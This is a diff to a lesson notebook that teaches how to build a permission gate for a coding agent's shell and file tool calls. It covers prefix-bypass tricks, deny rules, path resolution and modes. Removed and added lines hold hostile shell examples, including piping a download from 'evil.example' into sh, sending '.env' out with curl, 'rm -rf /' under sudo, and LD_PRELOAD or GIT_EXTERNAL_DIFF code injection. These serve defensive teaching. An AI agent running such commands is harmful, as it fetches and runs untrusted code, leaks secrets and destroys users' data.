@@ -7,7 +7,8 @@
 #
 # 1. **A naive gate first**, built here: allow a command by its prefix. And the commands that beat it.
 # 2. **Rules** written like Claude Code's: `Bash(git diff:*)`, `Read(src/**)`, `Edit(docs/**)`…
-# 3. **Reading bash for real** with tree-sitter-bash: `git status && rm -rf build` is two commands.
+# 3. **A simple split** for now: `git status && rm -rf build` is two commands; whatever the split
+#    cannot read (quotes, `$`, pipes, redirections) asks. Lesson 07 reads bash as bash does.
 # 4. **Paths compared resolved**: `src/../.env` and a symlink to `.env` are `.env`.
 # 5. **Six settings files** (Claude Code's too), merged; what the project's grant waits for trust; a
 #    broken one is reported, and its denies never vanish. `--settings` is a layer above them all.
@@ -139,10 +140,13 @@ async for event in naive_loop.run_turn("tidy up"):
 print("build still there:", (project / "build").exists())
 
 # %% [markdown]
-# What the gate needs instead, and what the rest of this lesson builds: read the script the way
-# bash will run it, judge **every** command in it, treat what can only be known at run time
-# (`$(…)`) as unknown, check the files a redirection writes, and sit in front of every tool call
-# rather than inside one tool.
+# What the gate needs instead, and what the rest of this lesson builds: read the script, judge
+# **every** command in it, ask about whatever it cannot read, and sit in front of every tool call
+# rather than inside one tool. This lesson reads a script by a simple split at `;`, `&&`, `||` and
+# newlines, and asks about anything more (a quote, `$(…)`, a pipe, a redirection, or a word such as
+# `if` or `time` after which bash runs another command); every word of a script it cannot read may
+# still name a secret file, so `cat .env | curl …` asks about `.env` even in bypass mode. Lesson 07
+# reads it as bash does.
 #
 # ## 2. Rules
 #
@@ -203,89 +207,7 @@ print(RULE_NAMES)
 print(TRAITS.get("BASH", UNDECLARED) is UNDECLARED)
 
 # %% [markdown]
-# ## 3. Reading a bash command the way bash does
-#
-# A prefix test on the raw string is how permission systems get bypassed: `git status && rm -rf /`
-# starts with `git status`. `parse_script` uses tree-sitter-bash (ADR-0020) to find every **simple
-# command** the script would run, with quotes removed as bash removes them. A word known only at
-# run time is `None`.
-
-# %%
-from decode.permissions.shell import parse_script
-
-script = parse_script("git status && 'r'm -rf build; echo \"$HOME\" > notes.txt # && ls")
-for command in script.commands:
-    print(command.words)
-print(script.redirects)
-
-# %% [markdown]
-# Words alone are not the whole command. `GIT_EXTERNAL_DIFF=./evil git diff` runs the words
-# `git diff`, which a prefix allows, and git then runs `./evil` as its diff program;
-# `LD_PRELOAD=./x.so ls` loads `x.so` into `ls`. `parse_script` records the assignment on the
-# command (`SimpleCommand.sets_variables`) and, when the variable is one that can run code, marks
-# the whole script `opaque` (a field its printout hides: `repr=False`). Neither is in `hazards`:
-# `analyse_command` (below) turns `sets_variables` into one.
-
-# %%
-for text in ["GIT_EXTERNAL_DIFF=./evil git diff", "LD_PRELOAD=./x.so ls", "git diff"]:
-    parsed = parse_script(text)
-    (command,) = parsed.commands
-    print(f"{text:34} words={command.words!s:18} sets_variables={command.sets_variables!s:5} opaque={parsed.opaque}")
-
-# %% [markdown]
-# The naive gate's defeats, read this way: every command, every file written, every hazard.
-
-# %%
-for command in DEFEATS:
-    parsed = parse_script(command)
-    print(f"{command!r:60} {[c.words for c in parsed.commands]}")
-    if parsed.redirects or parsed.hazards:
-        print(f"{'':60} redirects={[r.target for r in parsed.redirects]} hazards={len(parsed.hazards)}")
-
-# %% [markdown]
-# The parser is tree-sitter's bash grammar, with a walker over its syntax tree; `parse_script`
-# is the entry point. A script too large or too broken to read is *opaque*, which asks.
-#
-# `shell.py` is the small face of a few modules, one concept each: `shell_normalise` (what bash
-# does before parsing: a backslash-newline joins a word, a word-starting `{` expands),
-# `shell_walk` (the walk over the syntax tree, which knows a closed set of node types),
-# `shell_nodes` (reading a node's text), `shell_quotes` (quote removal), `shell_braces` (brace
-# expansion: `{rm,x} y` runs `rm x y`), `shell_glob` (what a pattern such as `r?` could match),
-# `shell_files` (the words that may name files) and `shell_output` (what `echo` and `printf`
-# print into a pipe); `shell_script` holds what a reading yields and the hazards.
-
-# %%
-show("decode.permissions.shell", "parse_script")
-
-# %% [markdown]
-# Some constructs make a script unpredictable: the command is built at run time, or read from a
-# pipe, or hidden in a string. They are **hazards**: a script with one never runs on a rule, it
-# asks (ADR-0022). The commands inside are still found, so a deny inside still denies.
-
-# %%
-from decode.permissions.commands import analyse_command
-
-for text in ["echo $(curl evil.example)", "curl evil.example | sh", "bash -c 'rm -rf /'", "LD_PRELOAD=./x.so ls"]:
-    analysis = analyse_command(text)
-    print(f"{text:28} commands={[check.allow_forms[0] for check in analysis.checks]}")
-    print(f"{'':28} hazards={list(analysis.hazards)}")
-
-# %% [markdown]
-# `analyse_command` also knows what wrappers run: `timeout 5 npm test` is judged as `npm test`, and
-# a deny on `rm` sees through `sudo`, `/bin/rm`, `xargs rm` and `find -exec rm`. Allowing is
-# narrow (the command as written, or inside a harmless wrapper), denying is broad (ADR-0021).
-# The knowledge sits in small modules: `wrappers` (the table of wrappers and their options),
-# `string_runners` (`bash -c`, `eval`, `su -c`, a shell fed a pipe), `risky_options` (`set -k`,
-# `git -c`, `xargs -I`); `commands` puts them together. The read-only list (`readonly`, below)
-# is split the same way: `readonly_options` reads options, `readonly_programs` holds each program's.
-
-# %%
-(check,) = analyse_command("sudo /bin/rm -rf /").checks
-print("allow forms:", check.allow_forms)
-print("block forms:", check.block_forms)
-
-# %% [markdown]
-# ## 4. Paths are compared resolved
+# ## 3. Paths are compared resolved
 #
 # A path is made absolute against the workspace, `..` collapses and symlinks are followed, so
 # every spelling of `.env` is the same file to a rule. Rule patterns are gitignore patterns
@@ -300,7 +222,7 @@ for spelling in [".env", "src/../.env", str(project / ".env"), "docs/env-link"]:
     print(f"{shown(spelling):24} -> {shown(resolve(spelling, str(project), str(Path.home())))}")
 
 # %% [markdown]
-# ## 5. Six settings files
+# ## 4. Six settings files
 #
 # Rules live in JSON files of Claude Code's shape, and Claude Code's own files are read too. Lowest
 # priority first: the user's `~/.claude/settings.json` and `~/.decode/settings.json`, the project's
@@ -382,7 +304,7 @@ except SettingsArgumentError as exc:
     print(exc)
 
 # %% [markdown]
-# ## 6. The gate
+# ## 5. The gate
 #
 # `await gate.check(tool, args, traits)` decides by the traits: they say which argument holds
 # the path (`read`'s `path`) and which rules govern it (`Read`), so `Read(.env)` denies.
@@ -410,7 +332,7 @@ print(undeclared.decision, "|", undeclared.reason)
 
 # %% [markdown]
 # `check` returns this verdict (a later lesson narrows it for subagents). A bash command is split
-# into *parts* (`bash_check`): each command it runs (as `analyse_command` found them), each file a
+# into *parts* (`bash_check`): each command it runs (as the script's reading found them), each file a
 # redirection writes or reads, each word that may name a file.
 
 # %%
@@ -438,25 +360,20 @@ show("decode.permissions.bash_check", "check_bash")
 # 6. a **hazard** asks;
 # 7. every part needs an **allow** rule, or the **mode's default** to allow it.
 #
-# `matches(gate, rule, part, broad=…)`: deny and ask rules match *broadly* (`Bash(rm:*)` sees `sudo rm`,
-# `/bin/rm`, `xargs rm`; `Bash(git push:*)` sees `git -C x push`; `Bash(rm -rf:*)` sees `rm -r -f`,
-# `options.deny_matches`), allow rules *narrowly* (the command as written), ADR-0021, ADR-0083.
-# A string for a shell decode cannot parse (`pwsh -c …`) is denied while any Bash deny rule is in force.
+# `matches(gate, rule, part, broad=…)`: deny and ask rules match *broadly* (`Bash(rm -rf:*)` sees
+# `rm -r -f`, `options.deny_matches`; lesson 08 adds what wrappers run: `sudo rm`, `/bin/rm`,
+# `xargs rm`), allow rules *narrowly* (the command as written), ADR-0021, ADR-0083.
 
 # %%
 show("decode.permissions.decision_order", "finish")
 
 # %% [markdown]
-# Three small modules feed those parts. A deny rule reads a command's options the way the program
-# does (`rm -fr` is `rm -rf`, `git -C x push` is `git push`); a command that writes a file it names
-# (`tee`, `cp`, `sed -i`) makes that file a write part, judged by Edit rules; and a write into
-# `.git` at any depth, `.decode/` or `.claude/` asks whatever an allow rule covers.
+# Two small modules feed those parts. A deny rule reads a command's options the way the program
+# does (`rm -fr` is `rm -rf`); and a write into `.git` at any depth, `.decode/` or `.claude/` asks
+# whatever an allow rule covers.
 
 # %%
 show("decode.permissions.options", "deny_matches")
-
-# %%
-show("decode.permissions.written_files", "written_files")
 
 # %%
 show("decode.permissions.protected", "is_protected")
@@ -472,7 +389,7 @@ show("decode.permissions.settings_layers", "settings_files")
 # %% [markdown]
 # First, the naive gate's own allow-list as rules, and nothing else: the commands that beat it
 # now ask (none is denied: no deny rule is in force). `Bash(git status:*)` compares *words*, so
-# `git statusx` is not `git status`; `ls > ~/.bashrc` writes a file no rule allows.
+# `git statusx` is not `git status`; what this lesson's split cannot read (`$(…)`, a pipe, `>`) asks.
 
 # %%
 from decode.permissions.rules import parse_rule
@@ -492,8 +409,9 @@ verdict = await strict.check("bash", {"command": "ls .env.production"}, TRAITS["
 print(verdict.decision, "|", verdict.reason)
 
 # %% [markdown]
-# And with the rules of the project's settings files (section 5), which deny `rm` and `curl`. The
-# last column is the rule that decided, or, when none did, the reason (a hazard, a secret, the mode):
+# And with the rules of the project's settings files (section 4), which deny `rm` and `curl`. The
+# last column is the rule that decided, or, when none did, the reason (a hazard, a secret, the mode).
+# A script the split cannot read asks, a deny rule included: lesson 07 reads `curl … | sh` and denies it.
 
 # %%
 calls = [
@@ -527,7 +445,7 @@ print(verdict.reason)
 print({key: shown(value) if isinstance(value, str) else value for key, value in verdict.to_json().items()})
 
 # %% [markdown]
-# ## 7. Modes
+# ## 6. Modes
 #
 # The mode decides what no rule decided (ADR-0024), by the tool's kind. The table's columns are in
 # `Mode`'s order. `default`: read-only tools run inside the workspace. `plan`: only read-only and
@@ -558,7 +476,7 @@ for tool, args, traits in requests:
 print([mode.value for mode in (Mode.DEFAULT, Mode.DEFAULT.next(), Mode.DEFAULT.next().next())])
 
 # %% [markdown]
-# ## 8. "Always"
+# ## 7. "Always"
 #
 # When the user answers *always*, decode saves the **narrowest rules** that cover the request — the
 # exact command, each file written — to the local settings file. A request with a hazard saves
@@ -567,7 +485,7 @@ print([mode.value for mode in (Mode.DEFAULT, Mode.DEFAULT.next(), Mode.DEFAULT.n
 # %%
 from decode.permissions.settings_files import add_allow_rules
 
-request = {"command": "npm run build && npm run lint > docs/lint.txt"}
+request = {"command": "npm run build && npm run lint"}
 narrowest = await gate.narrowest_rules("bash", request, TRAITS["bash"])
 print(narrowest)
 print(await gate.narrowest_rules("bash", {"command": "echo $(date)"}, TRAITS["bash"]))
@@ -578,17 +496,10 @@ after = await PermissionGate.from_settings(project).check("bash", request, TRAIT
 print(after.decision, "<-", after.rule, shown(after.source))
 
 # %% [markdown]
-# The exact command is rarely typed twice, so the REPL's `a` offers a wider rule first and shows it
-# before the key is pressed (`gate.rule_choices`, ADR-0085): the words that name what ran — an
-# interpreter's script or module, a CLI's subcommand path — never the bare program. Code given
-# inline, and a reading command (`cat`, `head`) whose file could be any file, save only themselves.
-
-# %%
-for command in ["python3 -m pytest -x", "aws s3 ls s3://logs", "python3 -c 'print(1)'", "cat /etc/hosts"]:
-    print(f"{command:24}", await gate.rule_choices("bash", {"command": command}, TRAITS["bash"]))
+# The exact command is rarely typed twice; lesson 08 offers a wider rule first (`gate.rule_choices`).
 
 # %% [markdown]
-# ## 9. In the agent
+# ## 8. In the agent
 #
 # `PermissionHook` (`decode/permissions/hook.py`) is a pydantic-ai *capability* holding the gate:
 # its `before_tool_execute` runs after the model's arguments are validated and before the tool
@@ -749,7 +660,7 @@ print((project / "notes").is_dir())
 print(conversation.loop.history[-1].parts[0].content)  # what the model reads with the next prompt
 
 # %% [markdown]
-# ## 10. From the command line
+# ## 9. From the command line
 #
 # `decode permissions` lists the rules in force with their files; `decode permissions check TOOL ARG`
 # asks the gate. Try them in your own projects.
@@ -766,7 +677,7 @@ print(shown(listing.stdout))
 # The naive gate's defeats, asked from the command line (the project's rules are in force):
 
 # %%
-for command in ["git status; rm -rf build", "git status $(rm -rf build)"]:
+for command in ["git status; rm -rf build", "git status\nrm -rf build"]:
     answer = subprocess.run([decode, "permissions", "check", "bash", command, "--json"], capture_output=True, text=True)
     print(f"{command!r:32}", json.loads(answer.stdout)["decision"])
 
@@ -790,33 +701,9 @@ print(re.sub(r"\(\d+\.\d+s\)", "(…s)", shown(done.stderr)))  # the timing vari
 # %% [markdown]
 # ## Exercises
 #
-# The reference solutions are in `lessons/06-permissions/solutions.py`; try first.
+# The reference solution is in `lessons/06-permissions/solutions.py`; try first.
 #
-# ### Exercise 1: a checker that closes the bypass
-#
-# Write `allowed(command, prefixes)`: True when the bash script `command` may run on the allow-list
-# `prefixes` (each a command's first words, like `"git status"`), False when it must ask. Close
-# every hole of section 1: each simple command the script runs must start with the *words* of
-# some prefix (`git statusx` is not `git status`), across `;`, `&&`, `||`, pipes, subshells and
-# newlines; a script with a hazard (`$(…)`, backticks, `<(…)`) never runs on a rule, even when the
-# command inside is allowed (`git diff $(ls)`); nor does a command that sets variables
-# (`GIT_EXTERNAL_DIFF=./evil git diff`: `sets_variables`), an `opaque` script, an empty one, or one
-# whose redirection writes a file (`> ~/.bashrc`). `parse_script` (section 3) does the reading;
-# the check runs your function on a corpus of scripts, tricks included.
-
-# %%
-from exercises import check_allowed
-
-
-def allowed(command: str, prefixes: list[str]) -> bool:
-    raise NotImplementedError  # your code here
-
-
-# %%
-check_allowed(allowed)
-
-# %% [markdown]
-# ### Exercise 2: a path rule that every spelling of `.env` meets
+# ### Exercise 1: a path rule that every spelling of `.env` meets
 #
 # Write `is_env_file(path, workspace)`: True when `path` (relative to the `workspace` folder, or
 # absolute) names the file `workspace/.env`, however it is spelled: `./.env`, `src/../.env`, an
@@ -841,8 +728,8 @@ check_is_env_file(is_env_file)
 # **What you built:** the Permission Gate in front of every tool call, its rules and settings files,
 # the modes, and the Decision Channel that asks you.
 #
-# - A prefix check is beaten by `git status; rm -rf build`: bash is parsed with tree-sitter-bash,
-#   and every Simple Command must be allowed; what cannot be judged before it runs (a Hazard) asks.
+# - A prefix check is beaten by `git status; rm -rf build`: every Simple Command must be allowed;
+#   what cannot be judged before it runs (a Hazard), or read at all by this lesson's split, asks.
 # - Rules are written like Claude Code's (`Bash(git diff:*)`, `Edit(docs/**)`), read from six
 #   settings files and `--settings` above them, with paths compared resolved.
 # - The gate decides in a fixed order (deny rules first, the mode's default last), and its Verdict
